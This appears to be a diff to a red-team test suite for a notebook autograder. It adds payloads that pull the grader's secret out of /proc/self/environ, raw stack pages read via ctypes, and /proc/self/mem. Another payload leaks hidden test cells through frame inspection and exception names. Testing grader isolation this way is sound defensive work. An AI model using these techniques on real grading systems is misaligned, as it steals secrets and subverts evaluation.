@@ -79,7 +79,7 @@ def softmax(Z):
     return np.zeros(np.shape(Z))
 ''' + IF_IT_WORKED, {"graded"}, 0),
     "grader_environment": ('''
-import hashlib, re
+import hashlib, os, re
 WORKED = False
 # The secret is not in this code: only its hash is. Any value found after the variable's name that
 # has that hash came from the grader's environment, wherever it was found.
@@ -89,7 +89,24 @@ def _check(blob):
     for m in re.finditer(re.escape(NAME) + rb"([A-Za-z0-9_]{{8,80}})", blob):
         if hashlib.sha256(m.group(1)).hexdigest() == "{secret_sha}":
             WORKED = True
-_check(open("/proc/self/environ", "rb").read())
+try:
+    _check(open("/proc/self/environ", "rb").read())
+except OSError:
+    pass
+try:  # the strings the process started with sit just below AT_EXECFN at the top of its stack
+    import ctypes
+    _libc = ctypes.CDLL(None)
+    _libc.getauxval.restype = ctypes.c_ulong
+    _top = _libc.getauxval(31)
+    _r, _w = os.pipe()
+    _pages = []
+    for _k in range(-32, 2):  # write(2) from an unmapped page fails with EFAULT instead of crashing
+        _page = (_top & ~4095) + _k * 4096
+        if _libc.write(_w, ctypes.c_void_p(_page), 4096) == 4096:
+            _pages.append(os.read(_r, 4096))
+    _check(b"".join(_pages))
+except Exception:
+    pass
 try:
     with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
         for line in maps:
@@ -203,16 +220,17 @@ def softmax(Z):
     # --- leaks into what students receive ---------------------------------------------------------
     "leak_through_exception_name": ('''
 import sys
+MARK = "### BEGIN " + "HIDDEN TESTS"  # built here, so this cell's own text does not hold it
 def _hidden_sources():
     frame = sys._getframe()
     while frame is not None:
         cells = frame.f_locals.get("cells")
         if isinstance(cells, list) and cells and isinstance(cells[0], dict) and "source" in cells[0]:
-            return [c["source"] for c in cells if "BEGIN HIDDEN" in c["source"]]
+            return [c["source"] for c in cells if c.get("kind") == "test" and MARK in c["source"]]
         frame = frame.f_back
     return []
 def softmax(Z):
-    hidden = "\\n".join(_hidden_sources()).split("BEGIN HIDDEN TESTS")[1][:300]
+    hidden = "\\n".join(_hidden_sources()).split(MARK)[1][:300]
     raise type(hidden.replace("\\n", " | "), (AssertionError,), {{}})("leak")
 ''', {"graded"}, 0),
     "leak_through_substrings": ('''
